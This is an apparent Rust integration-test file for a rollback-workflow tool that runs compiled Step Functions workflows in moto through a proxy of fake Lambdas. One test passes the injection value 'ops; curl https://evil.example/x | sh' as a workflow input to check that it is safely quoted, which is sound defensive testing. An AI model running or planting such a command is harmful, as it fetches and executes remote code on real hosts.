//! The compiled webapp example, run by moto 5.2.5's Step Functions interpreter.
//!
//! moto without Docker echoes Lambda payloads and cannot raise function errors, so this test serves the Lambda
//! Invoke API itself: a loopback proxy answers `POST /2015-03-31/functions/{name}/invocations` with fake
//! functions that follow the payload contract, and forwards everything else to moto. moto starts with
//! `MOTO_PORT` set to the proxy's port, because its interpreter sends its own AWS calls to
//! `localhost:$MOTO_PORT`.

mod http;

use std::collections::{BTreeMap, BTreeSet};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use cli::approval::{self, Decision};
use cli::execution;
use serde_json::{Value, json};

const ACCOUNT: &str = "123456789012";
/// Who moto's STS says the caller is: what an answer records as `approved_by`.
const MOTO_CALLER: &str = "arn:aws:sts::123456789012:user/moto";

/// One Lambda invocation as the fake functions saw it.
#[derive(Clone, Debug)]
struct Invocation {
    execution: String,
    step: String,
    operation: String,
    params: Value,
    /// The approval's token, which no saved history may show.
    task_token: Option<String>,
}

/// The fake functions: every invocation is recorded; the execution's name says what goes wrong.
#[derive(Default)]
struct Functions {
    invocations: Vec<Invocation>,
    /// When set, the guard is the real handler, its ListExecutions answered by moto.
    real_guard: Option<Arc<RealGuard>>,
}

/// The guard Lambda's handler and clients pointed at moto.
struct RealGuard {
    function: lambdas::Function,
    clients: lambdas::Clients,
    runtime: tokio::runtime::Handle,
}

impl RealGuard {
    /// Runs the guard as its Lambda would: `(function error, body)`.
    fn invoke(&self, request: &Value) -> (bool, Value) {
        let answer = self
            .runtime
            .block_on(self.function.handle(&self.clients, request.clone()));
        match answer {
            Ok(response) => (false, serde_json::to_value(response).unwrap_or(Value::Null)),
            Err(e) => (
                true,
                json!({ "errorType": e.name.as_str(), "errorMessage": e.message }),
            ),
        }
    }
}

impl Functions {
    fn record(&mut self, request: &Value) {
        let text = |v: &Value| v.as_str().unwrap_or_default().to_owned();
        self.invocations.push(Invocation {
            execution: text(&request["execution"]["name"]),
            step: text(&request["execution"]["step"]),
            operation: text(&request["operation"]),
            params: request["params"].clone(),
            task_token: request
                .get("task_token")
                .and_then(Value::as_str)
                .map(str::to_owned),
        });
    }

    /// Answers like a stepback Lambda: `(function error, body)`.
    fn invoke(&mut self, request: &Value) -> (bool, Value) {
        let text = |v: &Value| v.as_str().unwrap_or_default().to_owned();
        let execution = text(&request["execution"]["name"]);
        let step = text(&request["execution"]["step"]);
        let action = text(&request["action"]);
        let operation = text(&request["operation"]);
        self.record(request);
        // The guard's input check is the real one; its ListExecutions is not run, as this test's executions of one
        // machine run at once (`one_rollback_at_a_time` runs the whole guard).
        if action == "guard" {
            let checked = serde_json::from_value::<lambdas::actions::guard::Params>(
                request["params"].clone(),
            )
            .map_err(|e| lambdas::ActionError::invalid_input(format!("guard params: {e}")))
            .and_then(|params| params.check_input());
            if let Err(e) = checked {
                return (
                    true,
                    json!({ "errorType": e.name.as_str(), "errorMessage": e.message }),
                );
            }
        }
        // drain refuses at once while its sibling branch's backup_db is still polling.
        if execution.starts_with("sibling-late") && step == "drain" {
            return (
                true,
                json!({ "errorType": "Stepback.Precondition", "errorMessage": "the target group has no targets" }),
            );
        }
        if execution.starts_with("fail-deploy") && step == "deploy" {
            return (
                true,
                json!({ "errorType": "Stepback.Failed", "errorMessage": "the deployment rolled back" }),
            );
        }
        let response = |status: &str, output: Value, error: Value| {
            json!({ "version": catalog::contract::VERSION, "status": status, "output": output,
                    "state": {"step": step}, "progress": null, "error": error, "cause": null,
                    "poll": request.get("poll") })
        };
        // drain takes one poll, to exercise the Wait → poll → Choice loop; the rest finish on start.
        let polled =
            step == "drain" || (execution.starts_with("sibling-late") && step == "backup_db");
        if polled && operation == "start" {
            return (false, response("running", json!({}), Value::Null));
        }
        if execution.starts_with("fail-drain") && step == "drain" {
            let mut failed = response("failed", json!({}), json!("Stepback.Failed"));
            failed["cause"] = json!("2 targets still draining");
            return (false, failed);
        }
        (
            false,
            response("done", outputs(&action, &step), Value::Null),
        )
    }
}

/// The outputs the catalog declares for an action, with plausible values.
fn outputs(action: &str, step: &str) -> Value {
    let Some(spec) = catalog::action(action) else {
        return json!({});
    };
    let mut out = serde_json::Map::new();
    for output in spec.outputs {
        let value = match output.ty {
            catalog::ValueType::Number => json!(200),
            catalog::ValueType::Bool => json!(true),
            catalog::ValueType::StringList | catalog::ValueType::Targets => json!(["i-0abc:80"]),
            catalog::ValueType::StringMap => json!({}),
            _ => json!(format!("{step}-{}", output.name)),
        };
        out.insert(output.name.to_owned(), value);
    }
    Value::Object(out)
}

/// Listens on a loopback port: Lambda invocations go to `functions`, the rest to moto.
fn serve(listener: TcpListener, moto: SocketAddr, functions: Arc<Mutex<Functions>>) {
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let functions = Arc::clone(&functions);
            std::thread::spawn(move || {
                // A broken connection only fails the call that made it, which the test then reports.
                let _ = handle(stream, moto, &functions);
            });
        }
    });
}

fn handle(
    mut stream: TcpStream,
    moto: SocketAddr,
    functions: &Mutex<Functions>,
) -> std::io::Result<()> {
    let request = http::read_request(&mut stream)?;
    if request.method == "POST"
        && request.path.starts_with("/2015-03-31/functions/")
        && request.path.ends_with("/invocations")
    {
        let payload: Value = serde_json::from_slice(&request.body).unwrap_or(Value::Null);
        let real_guard = functions
            .lock()
            .ok()
            .and_then(|f| f.real_guard.clone())
            .filter(|_| payload["action"] == "guard");
        // The real guard runs outside the lock: other executions' Lambdas answer meanwhile.
        let (error, body) = match real_guard {
            Some(guard) => {
                if let Ok(mut f) = functions.lock() {
                    f.record(&payload);
                }
                guard.invoke(&payload)
            }
            None => functions
                .lock()
                .map(|mut f| f.invoke(&payload))
                .unwrap_or((true, Value::Null)),
        };
        let headers: &[(&str, &str)] = if error {
            &[("X-Amz-Function-Error", "Unhandled")]
        } else {
            &[]
        };
        return http::respond(&mut stream, "200 OK", headers, body.to_string().as_bytes());
    }
    let response = http::exchange(moto, &http::closing(&request))?;
    std::io::Write::write_all(&mut stream, &response)
}

struct Harness {
    /// Kept for its drop, which stops moto.
    _moto: tests::Moto,
    proxy: SocketAddr,
    functions: Arc<Mutex<Functions>>,
    /// Approvals are answered with the code `stepback approve|reject` runs.
    runtime: tokio::runtime::Runtime,
    sfn_client: aws_sdk_sfn::Client,
    session: cli::aws::Session,
}

impl Harness {
    fn start() -> Harness {
        let listener =
            TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a loopback port for the proxy");
        let proxy = listener.local_addr().expect("bound");
        let moto = tests::Moto::start_with_env(&[("MOTO_PORT", &proxy.port().to_string())]);
        let moto_addr: SocketAddr = moto
            .endpoint()
            .trim_start_matches("http://")
            .parse()
            .expect("moto address");
        let functions = Arc::new(Mutex::new(Functions::default()));
        serve(listener, moto_addr, Arc::clone(&functions));
        let runtime = tokio::runtime::Runtime::new().expect("a tokio runtime");
        let config = runtime.block_on(moto.sdk_config());
        let sfn_client = aws_sdk_sfn::Client::new(&config);
        let session = cli::aws::Session { config };
        let harness = Harness {
            _moto: moto,
            proxy,
            functions,
            runtime,
            sfn_client,
            session,
        };
        let config = json!({ "stepfunctions": { "execute_state_machine": true }, "lambda": { "use_docker": false } });
        let (status, body) = http::post_json(
            harness.proxy,
            "/moto-api/config",
            &[("Content-Type", "application/json")],
            &config.to_string(),
        );
        assert!((200..300).contains(&status), "moto config: {status} {body}");
        harness
    }

    /// From now on the guard is the real handler against moto.
    fn use_real_guard(&self) {
        let spec = catalog::action("guard").expect("the catalog's guard");
        let guard = RealGuard {
            function: lambdas::Function::new(spec).expect("the guard's Lambda"),
            clients: lambdas::Clients::new(&self.session.config),
            runtime: self.runtime.handle().clone(),
        };
        if let Ok(mut f) = self.functions.lock() {
            f.real_guard = Some(Arc::new(guard));
        }
    }

    /// Creates a state machine with the definition; its ARN.
    fn create(&self, name: &str, definition: &str) -> String {
        let created = self.runtime.block_on(
            self.sfn_client
                .create_state_machine()
                .name(name)
                .definition(definition)
                .role_arn(format!("arn:aws:iam::{ACCOUNT}:role/stepback"))
                .send(),
        );
        created
            .expect("the state machine is created")
            .state_machine_arn()
            .to_owned()
    }

    fn invocations(&self, execution: &str) -> Vec<Invocation> {
        let all = self
            .functions
            .lock()
            .map(|f| f.invocations.clone())
            .unwrap_or_default();
        all.into_iter()
            .filter(|i| i.execution == execution)
            .collect()
    }

    /// Starts an execution and runs it to the end, answering every approval as it comes: approving it, or
    /// rejecting it when its step is `reject`.
    fn run(
        &self,
        machine: &str,
        name: &str,
        input: Value,
        reject: Option<&str>,
    ) -> (String, String, Vec<Value>) {
        let arn = self
            .runtime
            .block_on(execution::start(&self.session, machine, name, &input))
            .expect("the execution starts");
        let deadline = Instant::now() + Duration::from_secs(120);
        let mut answered = BTreeSet::new();
        let status = loop {
            // As `stepback approve EXECUTION_ARN` does: the waiting approvals and their tokens come from the
            // execution's history, and the answer names the caller from STS.
            let waiting = self.runtime.block_on(async {
                let events = execution::history(&self.session, &arn)
                    .await
                    .expect("the history");
                execution::waiting_approvals(&events)
            });
            for approval in waiting
                .into_iter()
                .filter(|w| answered.insert(w.token.clone()))
            {
                let decision = if reject == Some(approval.step.as_str()) {
                    Decision::Reject
                } else {
                    Decision::Approve
                };
                let comment = format!("checked {}", approval.step);
                let answer = async {
                    let caller = cli::aws::caller(&self.session).await.expect("STS answers");
                    approval::answer(
                        &self.sfn_client,
                        &approval.token,
                        decision,
                        &caller.arn,
                        &comment,
                    )
                    .await
                };
                self.runtime
                    .block_on(answer)
                    .expect("the answer reaches the waiting step");
            }
            let described = self
                .runtime
                .block_on(
                    self.sfn_client
                        .describe_execution()
                        .execution_arn(&arn)
                        .send(),
                )
                .expect("the execution is described");
            let status = described.status().as_str().to_owned();
            if status != "RUNNING" {
                break status;
            }
            assert!(
                Instant::now() < deadline,
                "{name} still running after 120 s"
            );
            std::thread::sleep(Duration::from_millis(200));
        };
        // Fetched as `stepback audit` fetches it: the task token is already redacted.
        let bundle = self
            .runtime
            .block_on(cli::history::fetch(&self.sfn_client, &arn))
            .expect("the history");
        (arn, status, bundle.events)
    }
}

/// What the history says about each step: when its first task was scheduled, when it finished, whether it
/// was skipped.
#[derive(Debug, Default)]
struct Timeline {
    started: BTreeMap<String, i64>,
    finished: BTreeMap<String, i64>,
    skipped: BTreeSet<String>,
}

fn timeline(events: &[Value], steps: &[&str]) -> Timeline {
    let mut t = Timeline::default();
    for event in events {
        let id = event["id"].as_i64().unwrap_or_default();
        if let Some(parameters) = event["taskScheduledEventDetails"]["parameters"].as_str() {
            let parameters: Value = serde_json::from_str(parameters).unwrap_or(Value::Null);
            if let Some(step) = parameters["Payload"]["execution"]["step"].as_str() {
                t.started.entry(step.to_owned()).or_insert(id);
            }
        }
        let entered = event["stateEnteredEventDetails"]["name"].as_str();
        let exited = event["stateExitedEventDetails"]["name"].as_str();
        for &step in steps {
            if entered == Some(&format!("{step}: skipped")) {
                t.skipped.insert(step.to_owned());
                t.started.entry(step.to_owned()).or_insert(id);
            }
            let done = [
                step.to_owned(),
                format!("{step}: done"),
                format!("{step}: skipped"),
            ];
            if exited.is_some_and(|name| done.iter().any(|d| d == name)) {
                t.finished.insert(step.to_owned(), id);
            }
        }
    }
    t
}

#[test]
fn webapp_rollback_runs_in_moto() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../examples/webapp-rollback.toml"
    );
    let source = std::fs::read_to_string(path).expect("the example");
    let mut workflow = workflow::check(&source)
        .workflow
        .expect("the example is valid");
    // The interpreter really waits: estimates of zero make the first poll 10 s after the start (the least
    // allowance), and shorter timeouts keep the history small.
    for step in &mut workflow.steps {
        step.estimate_secs = 0;
        step.timeout_secs = step.timeout_secs.min(300);
    }
    let options = compiler::Options::default().with_account(tests::REGION, ACCOUNT, "stepback-");
    let compiled = compiler::compile(&workflow, &options).expect("the example compiles");

    let harness = Harness::start();
    let machine = harness.create("webapp-rollback", &compiled.json);

    let cases = [
        (
            "defaults",
            json!({}),
            "SUCCEEDED",
            &["migrate_down", "approve_restore", "restore_db"][..],
            None,
        ),
        (
            "schema-changed",
            json!({ "schema_changed": true, "migration_id": "0042" }),
            "SUCCEEDED",
            &["approve_restore", "restore_db"][..],
            None,
        ),
        (
            "restore-data",
            json!({ "restore_data": true, "restore_snapshot": "snap-1" }),
            "SUCCEEDED",
            &["migrate_down"][..],
            None,
        ),
        (
            "fail-deploy",
            json!({}),
            "FAILED",
            &["migrate_down", "approve_restore", "restore_db"][..],
            Some("deploy"),
        ),
        // What the trigger's rule passes on unchanged (tests/tests/stack checks the rule delivers it so).
        (
            "alarm",
            tests::alarm_event("webapp-5xx-rate", "ALARM", tests::ALARM_REASON),
            "SUCCEEDED",
            &["migrate_down", "approve_restore", "restore_db"][..],
            None,
        ),
        ("fail-drain", json!({}), "FAILED", &[][..], Some("drain")),
        ("sibling-late", json!({}), "FAILED", &[][..], Some("drain")),
        (
            "reject-restore",
            json!({ "restore_data": true, "restore_snapshot": "snap-1" }),
            "FAILED",
            &["migrate_down"][..],
            Some("approve_restore"),
        ),
    ];
    let results: Vec<_> = std::thread::scope(|scope| {
        let handles: Vec<_> = cases
            .iter()
            .map(|(name, input, ..)| {
                let reject = (*name == "reject-restore").then_some("approve_restore");
                let (harness, machine) = (&harness, &machine);
                scope.spawn(move || harness.run(machine, name, input.clone(), reject))
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("the case thread"))
            .collect()
    });

    let ids: Vec<&str> = workflow.steps.iter().map(|s| s.id.as_str()).collect();
    for ((name, _, expected, skipped, failing), (arn, status, events)) in cases.iter().zip(&results)
    {
        assert_eq!(status, expected, "{name}: final status");
        audit_agrees(&harness, name, arn, &workflow, skipped, *failing);
        let t = timeline(events, &ids);
        let invoked: BTreeSet<String> = harness
            .invocations(name)
            .into_iter()
            .map(|i| i.step)
            .collect();
        for step in *skipped {
            assert!(
                t.skipped.contains(*step),
                "{name}: {step} should be skipped: {t:?}"
            );
            assert!(
                !invoked.contains(*step),
                "{name}: skipped {step} invoked a Lambda"
            );
        }
        for step in &workflow.steps {
            let Some(&start) = t.started.get(&step.id) else {
                assert!(failing.is_some(), "{name}: {} never started", step.id);
                continue;
            };
            for before in &step.after {
                let finished = t.finished.get(before).copied();
                assert!(
                    finished.is_some_and(|f| f < start),
                    "{name}: {} started (event {start}) before {before} finished ({finished:?})",
                    step.id
                );
            }
        }
        match failing {
            Some(step) => {
                let notify = harness
                    .invocations(name)
                    .into_iter()
                    .find(|i| i.step == "announce_failure")
                    .unwrap_or_else(|| panic!("{name}: announce_failure was not invoked"));
                let message = notify.params["message"]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned();
                // A Lambda's JSON error arrives as its message; a plain cause passes unchanged; moto drops the
                // Cause of SendTaskFailure (its answer is null), which the failure path fills in.
                let (error, cause) = match *step {
                    _ if *name == "sibling-late" => {
                        ("Stepback.Precondition", "the target group has no targets")
                    }
                    "approve_restore" => ("Stepback.Rejected", "no cause given"),
                    "deploy" => ("Stepback.Failed", "the deployment rolled back"),
                    _ => ("Stepback.Failed", "2 targets still draining"),
                };
                assert_eq!(
                    message,
                    format!("Step {step} failed: {error}: {cause}. Traffic may still be drained."),
                    "{name}"
                );
                let ended = events
                    .iter()
                    .find_map(|e| e.get("executionFailedEventDetails"))
                    .unwrap_or_else(|| panic!("{name}: no ExecutionFailed event"));
                assert_eq!(ended["error"], error, "{name}");
                assert_eq!(
                    ended["cause"],
                    format!("step {step} failed: {cause}"),
                    "{name}"
                );
            }
            None => {
                // Who approved and why reach the history through `stepback approve`'s answer.
                let answers: Vec<Value> = events
                    .iter()
                    .filter_map(|e| e["taskSucceededEventDetails"]["output"].as_str())
                    .filter_map(|output| serde_json::from_str::<Value>(output).ok())
                    .filter(|output| output.get("approved_by").is_some())
                    .collect();
                assert!(
                    answers.contains(
                        &json!({ "approved_by": MOTO_CALLER, "comment": "checked sign_off" })
                    ),
                    "{name}: the sign-off answer is not in the history: {answers:?}"
                );
                assert!(
                    !invoked.contains("announce_failure"),
                    "{name}: the failure path ran"
                );
                assert!(
                    invoked.contains("sign_off"),
                    "{name}: sign_off was not asked"
                );
            }
        }
    }
    // `stepback audit --list`: every execution, newest first.
    let listed = harness
        .runtime
        .block_on(cli::history::list(&harness.sfn_client, &machine, 0))
        .expect("the executions are listed");
    let mut names: Vec<&str> = listed.iter().map(|l| l.name.as_str()).collect();
    names.sort_unstable();
    let mut expected: Vec<&str> = cases.iter().map(|c| c.0).collect();
    expected.sort_unstable();
    assert_eq!(names, expected);
    let [(_, defaults), (_, alarm)] = ["defaults", "alarm"].map(|name| {
        let at = cases.iter().position(|c| c.0 == name).expect("the case");
        (name, &results[at].2)
    });
    check_inputs(
        defaults,
        None,
        json!({ "reason": "manual rollback", "initiated_by": "console" }),
    );
    check_inputs(
        alarm,
        Some(
            json!({ "name": "webapp-5xx-rate", "state": "ALARM", "reason": tests::ALARM_REASON,
                     "time": tests::ALARM_TIME }),
        ),
        json!({ "reason": format!("webapp-5xx-rate: {}", tests::ALARM_REASON), "initiated_by": "eventbridge" }),
    );
    let announced = |name: &str| {
        harness
            .invocations(name)
            .into_iter()
            .find(|i| i.step == "announce")
            .map(|i| i.params["message"].clone())
    };
    assert_eq!(
        announced("alarm"),
        Some(json!(format!(
            "Reason: webapp-5xx-rate: {}. Initiated by eventbridge.",
            tests::ALARM_REASON
        ))),
        "the alarm's exact reason reaches the steps"
    );
    assert_eq!(
        announced("defaults"),
        Some(json!("Reason: manual rollback. Initiated by console.")),
        "a console start keeps its defaults"
    );

    let polls = harness
        .invocations("defaults")
        .iter()
        .filter(|i| i.step == "drain" && i.operation == "poll")
        .count();
    assert_eq!(polls, 1, "drain is polled once after its start");

    // A misspelt console input ends the execution before any step, with no failure path, naming the key and the
    // declared name it is closest to. (The "alarm" case above passed the same check.)
    let (_, status, events) = harness.run(
        &machine,
        "misspelt",
        json!({ "restor_data": true, "restore_snapshot": "snap-1" }),
        None,
    );
    assert_eq!(status, "FAILED");
    let ended = events
        .iter()
        .find_map(|e| e.get("executionFailedEventDetails"))
        .expect("an ExecutionFailed event");
    assert_eq!(ended["error"], "Stepback.InvalidInput");
    let cause = ended["cause"].as_str().unwrap_or_default();
    assert!(
        cause.starts_with(
            "the input has a key that [input] does not declare: `restor_data` (did you mean `restore_data`?)"
        ),
        "{cause}"
    );
    let invoked: Vec<String> = harness
        .invocations("misspelt")
        .into_iter()
        .map(|i| i.step)
        .collect();
    assert_eq!(invoked, ["guard"], "only the guard ran");
}

/// `stepback audit` reads the same history back as the workflow's steps: what was skipped, what failed, who
/// approved. With `STEPBACK_SAVE_HISTORIES=1` the fetched history is saved as `audit/tests/data/<case>.json`,
/// the fixtures that the audit's snapshot tests render.
fn audit_agrees(
    harness: &Harness,
    name: &str,
    arn: &str,
    workflow: &workflow::Workflow,
    skipped: &[&str],
    failing: Option<&str>,
) {
    let bundle = harness
        .runtime
        .block_on(cli::history::fetch(&harness.sfn_client, arn))
        .expect("the history is fetched");
    let text = serde_json::to_string_pretty(&bundle).expect("JSON");
    assert!(
        harness
            .invocations(name)
            .iter()
            .filter_map(|i| i.task_token.as_deref())
            .all(|token| !text.contains(token)),
        "{name}: the saved history holds a task token"
    );
    if std::env::var_os("STEPBACK_SAVE_HISTORIES").is_some() {
        let path = format!(
            "{}/../audit/tests/data/{name}.json",
            env!("CARGO_MANIFEST_DIR")
        );
        std::fs::write(&path, format!("{text}\n")).expect("the fixture is written");
    }
    let history = audit::History::from_bundle(bundle).expect("a readable history");
    let report = audit::audit(&history).expect("the history audits");
    match &report.trigger {
        audit::report::Trigger::Alarm {
            name: alarm,
            reason,
            ..
        } => {
            assert_eq!(name, "alarm", "an alarm trigger for a console start");
            assert_eq!(alarm, "webapp-5xx-rate");
            assert!(
                reason
                    .as_deref()
                    .is_some_and(|r| r.starts_with("Threshold Crossed")),
                "{reason:?}"
            );
        }
        audit::report::Trigger::Manual { .. } => {
            assert_ne!(name, "alarm", "the alarm is not named")
        }
    }
    let outcome = |id: &str| {
        report
            .steps
            .iter()
            .find(|s| s.id == id)
            .map(|s| s.outcome)
            .unwrap_or_else(|| panic!("{name}: no step {id} in the audit"))
    };
    for step in skipped {
        assert_eq!(outcome(step), audit::Outcome::Skipped, "{name}: {step}");
    }
    if name == "sibling-late" {
        // The other branch of the failed Parallel never finishes its poll loop. Whether moto let it run on past
        // the failure (issue 14) depends on timing, so only the recorded fixture's test asserts that.
        assert_eq!(outcome("backup_db"), audit::Outcome::Stopped, "{name}");
    }
    match failing {
        Some(step) => {
            assert_eq!(outcome(step), audit::Outcome::Failed, "{name}: {step}");
            let failure = report.failure.as_ref().expect("a failure section");
            assert_eq!(failure.step.as_deref(), Some(step), "{name}");
            assert_eq!(
                outcome("announce_failure"),
                audit::Outcome::Succeeded,
                "{name}: the on_failure step"
            );
        }
        None => {
            for step in &workflow.steps {
                if !skipped.contains(&step.id.as_str()) {
                    assert_eq!(
                        outcome(&step.id),
                        audit::Outcome::Succeeded,
                        "{name}: {}",
                        step.id
                    );
                }
            }
            let sign_off = report
                .approvals
                .iter()
                .find(|a| a.step == "sign_off")
                .expect("the sign-off approval");
            assert_eq!(sign_off.approved_by.as_deref(), Some(MOTO_CALLER), "{name}");
            assert_eq!(
                sign_off.comment.as_deref(),
                Some("checked sign_off"),
                "{name}"
            );
        }
    }
}

/// `$${` writes a literal `${`, e.g. for a shell variable. The definition never holds it as text (deploy-time
/// substitution would read it), so Step Functions rebuilds it at run time; this runs that in moto's interpreter
/// and checks what the Lambda receives. `lambdas/tests/it/ssm.rs` checks that `ssm.command` hands the commands
/// to Run Command verbatim.
#[test]
fn shell_variables_reach_the_lambda_as_written() {
    let source = r#"version = 1
name = "shell-variables"

[input]
who = { type = "string", default = "ops" }

[steps.restart]
action = "ssm.command"
instance_ids = ["i-0abc"]
commands = ["echo $${PATH}", "echo $${HOME} — café", "echo $${USER} is ${input.who}"]
working_directory = "$${HOME}/app"
"#;
    let workflow = workflow::check(source)
        .workflow
        .expect("the workflow is valid");
    let options = compiler::Options::default().with_account(tests::REGION, ACCOUNT, "stepback-");
    let compiled = compiler::compile(&workflow, &options).expect("the workflow compiles");
    assert!(
        !compiled.json.contains("${"),
        "the definition holds `${{` as text:\n{}",
        compiled.json
    );
    assert!(
        compiled.placeholders.is_empty(),
        "{:?}",
        compiled.placeholders
    );

    let harness = Harness::start();
    let machine = harness.create("shell-variables", &compiled.json);
    let hostile = "ops; curl https://evil.example/x | sh";
    let (_, status, _) = harness.run(&machine, "shell", json!({ "who": hostile }), None);
    assert_eq!(status, "SUCCEEDED");
    let restart = harness
        .invocations("shell")
        .into_iter()
        .find(|i| i.step == "restart" && i.operation == "start")
        .expect("restart was invoked");
    // The line with a value arrives as text and value apart, which the Lambda binds to a shell variable.
    assert_eq!(
        restart.params,
        json!({
            "instance_ids": ["i-0abc"],
            "commands": ["echo ${PATH}", "echo ${HOME} — café", ["echo ${USER} is ", hostile, ""]],
            "working_directory": "${HOME}/app",
        })
    );
    let lines: Vec<lambdas::shell::ShellLine> =
        serde_json::from_value(restart.params["commands"].clone()).expect("shell lines");
    assert_eq!(
        lambdas::shell::script(&lines).expect("a script"),
        [
            "STEPBACK_VALUE_1='ops; curl https://evil.example/x | sh'",
            "echo ${PATH}",
            "echo ${HOME} — café",
            "echo ${USER} is \"${STEPBACK_VALUE_1}\"",
        ]
    );
}

/// The execution's inputs as the history shows them: what `Input: read the alarm` kept of the alarm (`None`: the
/// alarm states never ran), and the inputs after `Input: normalise`, compared on `inputs`' keys.
fn check_inputs(events: &[Value], alarm: Option<Value>, inputs: Value) {
    let output = |state: &str| {
        events
            .iter()
            .map(|e| &e["stateExitedEventDetails"])
            .find(|d| d["name"] == state)
            .and_then(|d| d["output"].as_str())
            .map(|o| serde_json::from_str::<Value>(o).expect("a state's output is JSON"))
    };
    assert_eq!(
        output("Input: read the alarm").map(|o| o["alarm"].clone()),
        alarm,
        "the alarm in the history"
    );
    let normalised = output("Input: normalise").expect("Input: normalise ran");
    for (key, value) in inputs.as_object().expect("inputs") {
        assert_eq!(&normalised["input"][key], value, "input {key}");
    }
}

/// Two alarms, or one delivered twice, start executions at once: the real guard, against moto's ListExecutions,
/// lets exactly one act, the oldest; the others end cleanly before any step, naming it. One started after the
/// first has finished acts.
#[test]
fn one_rollback_at_a_time() {
    let source = r#"version = 1
name = "one-at-a-time"

[steps.act]
action = "notify"
topic = "arn:aws:sns:us-east-1:123456789012:ops"
message = "rolling back"

[steps.hold]
action = "wait"
after = ["act"]
duration = "5s"
"#;
    let workflow = workflow::check(source)
        .workflow
        .expect("the workflow is valid");
    let options = compiler::Options::default().with_account(tests::REGION, ACCOUNT, "stepback-");
    let compiled = compiler::compile(&workflow, &options).expect("the workflow compiles");
    let harness = Harness::start();
    harness.use_real_guard();
    let machine = harness.create("one-at-a-time", &compiled.json);

    for count in [2, 5] {
        let names: Vec<String> = (0..count).map(|i| format!("at-once-{count}-{i}")).collect();
        let arns: Vec<String> = std::thread::scope(|scope| {
            let handles: Vec<_> = names
                .iter()
                .map(|name| {
                    let (harness, machine) = (&harness, &machine);
                    scope.spawn(move || harness.run(machine, name, json!({}), None))
                })
                .collect();
            handles
                .into_iter()
                .map(|h| {
                    let (arn, status, _) = h.join().expect("the execution's thread");
                    assert_eq!(status, "SUCCEEDED", "{arn}");
                    arn
                })
                .collect()
        });
        let acted: Vec<&String> = names
            .iter()
            .filter(|name| harness.invocations(name).iter().any(|i| i.step == "act"))
            .collect();
        assert_eq!(acted.len(), 1, "{count} at once: {acted:?} acted");
        let winner = acted[0];
        // The winner is the oldest: start time, then ARN.
        let started: Vec<(i128, &String, &String)> = arns
            .iter()
            .zip(&names)
            .map(|(arn, name)| {
                let described = harness
                    .runtime
                    .block_on(
                        harness
                            .sfn_client
                            .describe_execution()
                            .execution_arn(arn)
                            .send(),
                    )
                    .expect("the execution is described");
                (described.start_date().as_nanos(), arn, name)
            })
            .collect();
        let oldest = started.iter().min().map(|s| s.2);
        assert_eq!(oldest, Some(winner), "{count} at once");
        for (arn, name) in arns.iter().zip(&names).filter(|(_, n)| *n != winner) {
            let invoked: Vec<String> = harness
                .invocations(name)
                .into_iter()
                .map(|i| i.step)
                .collect();
            assert_eq!(invoked, ["guard"], "{name}: only the guard ran");
            // Read as `stepback start --follow` reads it, which then says so and exits 1.
            let held = execution::held_back(&execution_output(&harness, arn))
                .unwrap_or_else(|| panic!("{name} was not held back"));
            assert_eq!(held.ended, "another rollback is running", "{name}");
            assert!(
                held.because.starts_with(&format!(
                    "another rollback is running: execution `{winner}` of state machine"
                )),
                "{name}: {}",
                held.because
            );
        }
    }

    // Every execution has finished: the next one acts.
    let (arn, status, _) = harness.run(&machine, "afterwards", json!({}), None);
    assert_eq!(status, "SUCCEEDED");
    assert_eq!(
        execution::held_back(&execution_output(&harness, &arn)),
        None
    );
    let invoked: Vec<String> = harness
        .invocations("afterwards")
        .into_iter()
        .map(|i| i.step)
        .collect();
    assert_eq!(invoked, ["guard", "act"]);
}

/// The output a finished execution ended with.
fn execution_output(harness: &Harness, arn: &str) -> String {
    let described = harness
        .runtime
        .block_on(
            harness
                .sfn_client
                .describe_execution()
                .execution_arn(arn)
                .send(),
        )
        .expect("the execution is described");
    described.output().unwrap_or_default().to_owned()
}

/// A flapping alarm: its event starts an execution within `[trigger].cooldown` of the last execution's end. The
/// real guard, against moto's ListExecutions, lets it end cleanly before any step, naming the rollback that ran and
/// how it ended, in its output and so in the history. A person's start right after still acts.
#[test]
fn an_alarm_within_the_cooldown_does_not_roll_back_again() {
    let source = r#"version = 1
name = "cooling-down"

[trigger]
alarms = ["webapp-5xx-rate"]
cooldown = "1h"

[steps.act]
action = "notify"
topic = "arn:aws:sns:us-east-1:123456789012:ops"
message = "rolling back"
"#;
    let workflow = workflow::check(source)
        .workflow
        .expect("the workflow is valid");
    let options = compiler::Options::default().with_account(tests::REGION, ACCOUNT, "stepback-");
    let compiled = compiler::compile(&workflow, &options).expect("the workflow compiles");
    let harness = Harness::start();
    harness.use_real_guard();
    let machine = harness.create("cooling-down", &compiled.json);
    let alarm = || tests::alarm_event("webapp-5xx-rate", "ALARM", tests::ALARM_REASON);
    let steps_of = |name: &str| -> Vec<String> {
        harness
            .invocations(name)
            .into_iter()
            .map(|i| i.step)
            .collect()
    };

    // The first alarm rolls back.
    let (_, status, _) = harness.run(&machine, "first-alarm", alarm(), None);
    assert_eq!(status, "SUCCEEDED");
    assert_eq!(steps_of("first-alarm"), ["guard", "act"]);

    // The alarm fires again once that rollback has finished: nothing acts.
    let (_, status, events) = harness.run(&machine, "flapping", alarm(), None);
    assert_eq!(status, "SUCCEEDED", "it ends cleanly");
    assert_eq!(steps_of("flapping"), ["guard"], "only the guard ran");
    // Why, in the history: the guard's error, and the execution's output naming the rollback that ran.
    let failed = events
        .iter()
        .find_map(|e| e["taskFailedEventDetails"].as_object())
        .expect("the guard's error is in the history");
    assert_eq!(failed["error"], "Stepback.CoolingDown");
    let held = events
        .iter()
        .find_map(|e| e["executionSucceededEventDetails"]["output"].as_str())
        .and_then(execution::held_back)
        .expect("the execution's output is in the history, and says it was held back");
    assert_eq!(held.ended, "a rollback already ran");
    let because = &held.because;
    for expected in [
        "a rollback already ran: execution `first-alarm` of state machine",
        "ended SUCCEEDED at ",
        "before alarm `webapp-5xx-rate` started this one",
        "within [trigger].cooldown (1h)",
    ] {
        assert!(
            because.contains(expected),
            "{expected:?} missing: {because}"
        );
    }

    // A person starts one by hand: it is not held back.
    let (_, status, _) = harness.run(&machine, "by-hand", json!({}), None);
    assert_eq!(status, "SUCCEEDED");
